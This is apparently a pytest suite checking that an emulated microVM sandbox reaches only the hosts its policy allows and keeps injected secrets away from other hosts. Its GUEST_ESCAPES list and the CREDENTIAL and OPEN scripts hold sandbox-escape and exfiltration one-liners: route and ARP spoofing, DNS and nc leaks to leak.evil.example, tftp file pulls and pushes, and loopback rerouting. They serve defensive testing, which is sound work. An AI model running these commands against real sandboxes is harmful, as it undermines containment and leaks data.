"""What an emulated microVM can reach: what its policy names, and nothing else. In the tests' own world."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.support.bottle import Bottle, Ended
from tests.support.engines import Docker
from tests.support.escapes import ESCAPES, client_context
from tests.support.killing import hold_download_ends_with_proxy
from tests.support.world import (
    API,
    LAN,
    METADATA,
    OTHER,
    RESOLVER,
    TURNS,
    WILD,
    World,
    hold_value_reached_its_host_alone,
    loopback_service,
    routed,
)

pytestmark = pytest.mark.timeout(600)

PROXY = "10.0.2.100"
# what root in a guest of QEMU may try besides
_CURL = "curl -sS -m 5 --noproxy '*'"
GUEST_ESCAPES = (
    f"ip route add {OTHER}/32 dev eth0; {_CURL} http://{OTHER}/",
    f"ip addr add 10.0.2.77/24 dev eth0; {_CURL} --interface 10.0.2.77 http://{OTHER}/",
    # QEMU answers for PROXY, and takes whatever is sent to its hardware address
    f"ip route add default via {PROXY}; for each in {OTHER} {API} {LAN} {METADATA}; do {_CURL} $each; done",
    f"arp -s 10.0.2.2 52:55:0a:00:02:64; {_CURL} http://10.0.2.2/; {_CURL} http://10.0.2.2:443/",
    f"nslookup -timeout=2 leak.evil.example 10.0.2.3; echo leak | nc -w 2 10.0.2.3 53; {_CURL} 10.0.2.3",
    f"nslookup -timeout=2 leak.evil.example {RESOLVER}; echo leak | nc -w 2 {RESOLVER} 53",
    f"udhcpc -i eth0 -n -q -t 1 -s /bin/true; tftp -g -r passwd -l - {PROXY}; tftp -p -l /ca.pem {PROXY}",
    f"for port in 22 53 80 443 445; do nc -w 1 10.0.2.4 $port; nc -w 1 {PROXY} $port; done </dev/null",
    f"for each in {PROXY} {OTHER} 255.255.255.255; do"
    " echo leak | nc -u -w 1 $each 53; echo leak | nc -u -w 1 $each 443; ping -c 1 -W 1 $each; done",
    f"ip -6 addr add fec0::15/64 dev eth0; {_CURL} 'http://[fec0::2]/'; nslookup leak.evil.example fec0::3",
    "ip addr del 127.0.0.1/8 dev lo; mount -o remount,rw /proc/sys;"
    f" echo 1 >/proc/sys/net/ipv4/conf/eth0/route_localnet; ip route add 127.0.0.0/8 via {PROXY};"
    f" {_CURL} http://127.0.0.1/; {_CURL} http://127.0.0.2/",
)
# Sends one of two words and 1 MB; prints what is answered. After `first` it says that this is all, and then
# waits for the answer; after `last` it waits for the answer and its end, and sends some more.
PEER = r"""
socket(P, 2, 1, 0) && connect(P, pack("Sna4x8", 2, 3128, pack("C4", 10, 0, 2, 100))) or die $!;
alarm 60;
select(P); $| = 1; select(STDOUT);
print P "CONNECT ADDRESS HTTP/1.1\r\nHost: ADDRESS\r\n\r\n";
while (<P>) { last if $_ eq "\r\n" }
print P "$ARGV[0]\n", "x" x 1_000_000;
shutdown(P, 1) if $ARGV[0] eq "first";
my @answer = <P>;
print P "y" x 1000 if $ARGV[0] eq "last";
print @answer;
""".replace("ADDRESS", f"{API}:{TURNS}")
WORKS = f"""
set -e
cat >/tmp/peer <<'END'
{PEER}
END
curl -sS http://api.example.org/plain
curl -sS https://api.example.org/secure
git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
curl -sS https://api.example.org/size/20000000 | wc -c
head -c 20000000 /dev/zero | curl -sS -T - https://api.example.org/sink; echo
curl -sS -m 60 -p http://{API}:{TURNS}/ | wc -c
perl /tmp/peer first
perl /tmp/peer last
"""
CREDENTIAL = """
echo "holds $KEY"
curl -sS -m 60 -H "Authorization: Bearer $KEY" https://api.example.org/headers
curl -sS -m 60 -u "me:$KEY" https://api.example.org/headers
curl -sS -m 60 -H "X-Key: $KEY" https://other.example.org/headers
curl -sS -m 60 -H "X-Key: $KEY" http://api.example.org/headers
grep -s a-canary-value /proc/[0-9]*/environ /.bottle/ca.pem | head -c 100
"""

# all is reached, but not what root in the guest tries, who takes its own loopback out of the way first
OPEN = f"""
for each in {API} {LAN} {METADATA}; do curl -sS -m 30 http://$each/; done
ip addr del 127.0.0.1/8 dev lo
echo 1 >/proc/sys/net/ipv4/conf/eth0/route_localnet
ip route add 127.0.0.0/8 via 198.51.100.1
for each in 198.51.100.1 198.51.100.3 198.51.100.9 127.0.0.1; do curl -s -m 2 http://$each:8001/ & done
nslookup -timeout=1 -port=8001 leak.example 127.0.0.1 >/tmp/answer &
wait
echo tried
"""

Run = Callable[..., Ended]


@pytest.fixture(scope="module")
def client(docker: Docker, outside: World, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of an image with the programs that are used to get out."""
    folder = tmp_path_factory.mktemp("client")
    image = docker.build(client_context(folder, outside.folder / "cert.pem"))
    docker.docker("save", "--output", str(folder / "client.tar"), image)
    return folder / "client.tar"


@pytest.fixture
def there(shared_cache: Path, outside: World, tmp_path: Path) -> Iterator[Bottle]:
    """Run `bottle` in that world. Whatever a test does, no process stays."""
    outside.forget()
    changes = {
        "BOT_BOTTLE_STATE_DIR": str(tmp_path / "state"),
        "SSL_CERT_FILE": str(outside.folder / "cert.pem"),
    }
    made = Bottle(shared_cache, changes, prefix=outside.prefix)
    yield made
    assert made.leftovers == []


@pytest.fixture
def run(there: Bottle, client: Path) -> Run:
    def run(script: str, *options: str) -> Ended:
        own = ("run", "-q", "--accel=direct", "-m", "1g", "--name=walls", "-u", "0", "-w", "/tmp")
        return there(*own, *options, "--archive", client, "--", "sh", "-c", script, timeout=300)

    return run


def proof(there: Bottle) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(there("show", "--json", "walls").out)["proof"]
    return found


def test_with_one_host_allowed_all_of_it_works(run: Run, there: Bottle, outside: World) -> None:
    done = run(WORKS, "--allow=api.example.org", f"--allow={API}:{TURNS}")
    assert done.code == 0, done
    plain, secure = (f"reached {API}:{port}" for port in (80, 443))
    files = [plain, secure, "from far away", "20000000", "20000000"]
    assert done.out.splitlines() == [*files, "3000000", "1000000", "all"], done
    assert [each["more"] for each in outside.seen() if "more" in each] == [1000]
    assert {each["address"] for each in outside.seen()} == {API}
    found = proof(there)
    assert all(each["ok"] for each in found.values())
    assert found["allowed-host"]["outcome"] == "open"
    assert {found[each]["outcome"] for each in ("refused-host", "host-loopback")} == {"refused"}
    assert found["qemu.user"]["outcome"] == "of its own"
    assert found["qemu.namespaces"]["outcome"] == "mount ipc uts network"


@pytest.mark.parametrize(
    ("options", "reachable"),
    [
        pytest.param((), set(), id="nothing"),
        pytest.param(("-p", "3000"), set(), id="a-port", marks=pytest.mark.slow),
        pytest.param(
            [f"--allow={name}.example.org" for name in ("api", "rebound", "clouded", "looped")],
            {API},
            id="hosts",
        ),
        pytest.param(
            ("--allow=*.wild.example.net:443", "-p", "3000"),
            {WILD},
            id="a-wildcard-and-a-port",
            marks=pytest.mark.slow,
        ),
    ],
)
def test_no_escape_reaches_what_is_not_allowed(
    run: Run, outside: World, options: tuple[str, ...], reachable: set[str]
) -> None:
    attempts = [attempt.replace("127.0.0.1 3128", f"{PROXY} 3128") for _, attempt in ESCAPES]
    attempts = [attempt.replace("127.0.0.1:3128", f"{PROXY}:3128") for attempt in attempts]
    at_once = [f"( {each}\n) </dev/null >/tmp/{number} 2>&1 &" for number, each in enumerate(attempts)]
    # these change the guest's network for the others, so they come last
    after = [f"( {each}\n) </dev/null >/tmp/9{number} 2>&1" for number, each in enumerate(GUEST_ESCAPES)]
    script = "\n".join(
        [*at_once, "wait", *after, 'for each in /tmp/[0-9]*; do head -c 2000 "$each"; echo "== tried"; done']
    )
    done = run(script, *options)
    assert done.out.count("== tried") == len(attempts) + len(GUEST_ESCAPES), done
    assert {each["address"] for each in outside.seen()} <= reachable, outside.seen()
    got_through = [line for line in done.out.splitlines() if line.startswith("reached ")]
    assert {line.split()[1].rpartition(":")[0] for line in got_through} <= reachable, done.out
    assert not [each for each in outside.seen() if "other" in str(each.get("host"))]


def test_a_secret_for_a_host_reaches_that_host_alone_and_not_the_bottle(
    run: Run, there: Bottle, outside: World, tmp_path: Path
) -> None:
    value = "a-canary-value-of-the-walls"
    (tmp_path / "key").write_text(f"{value}\n")
    options = ("--allow=api.example.org", "--allow=other.example.org")
    done = run(CREDENTIAL, *options, f"--secret=id=KEY,src={tmp_path}/key,host=api.example.org")
    assert done.out.startswith("holds BOTTLE_PLACEHOLDER_"), done
    assert "a-canary" not in done.out + done.err
    hold_value_reached_its_host_alone(outside, done.out.split()[1], value)
    assert value not in there("show", "--json", "walls").out


def test_a_running_bottle_is_checked_and_allowed_another_host(
    there: Bottle, client: Path, outside: World, tmp_path: Path
) -> None:
    (tmp_path / "key").write_text("a-secret\n")
    script = "until curl -sSf http://other.example.org/; do sleep 0.5; done"
    own = ("run", "-q", "-d", "--accel=direct", "-m", "1g", "--name=walls", "--allow=api.example.org")
    given = ("--env=MINE=its own", f"--secret=id=KEY,src={tmp_path}/key", "--archive", client)
    assert there(*own, *given, "--", "sh", "-c", script).code == 0
    asks = 'curl -sSf http://api.example.org/plain && echo "$MINE, $OTHER, ${KEY-none}"'
    execed = there("exec", "-e", "OTHER=another", "walls", "--", "sh", "-c", asks)
    assert execed.out == f"reached {API}:80\nits own, another, none\n", execed
    checked = json.loads(there("check", "--json", "walls").out)
    assert all(each["ok"] for each in checked.values())
    assert {each["address"] for each in outside.seen()} <= {API}
    allowed = there("allow", "walls", "other.example.org")
    assert allowed.out.split() == ["api.example.org", "other.example.org"], allowed
    assert "reached" in there("logs", "-f", "walls").out
    there("rm", "walls")


def test_without_its_proxy_nothing_is_reached(there: Bottle, client: Path) -> None:
    own = ("--accel=direct", "-m", "512m", "--name=walls", "-u", "0", "-w", "/tmp")
    hold_download_ends_with_proxy(there, *own, "--archive", client)


def test_an_open_network_leads_to_all_but_this_machines_loopback(
    run: Run, there: Bottle, outside: World
) -> None:
    with routed(outside), loopback_service(outside, 8001) as service:
        done = run(OPEN, "--network", "open")
        service.kill()
        assert service.stdout
        assert service.stdout.read() == ""
    reached = [API, LAN, METADATA]
    assert done.out.splitlines() == [*(f"reached {each}:80" for each in reached), "tried"], done
    assert "the network is unrestricted" in done.err
    found = proof(there)
    assert all(each["ok"] for each in found.values())
    assert {"host-loopback", "gateway", "resolver"} < {*found}
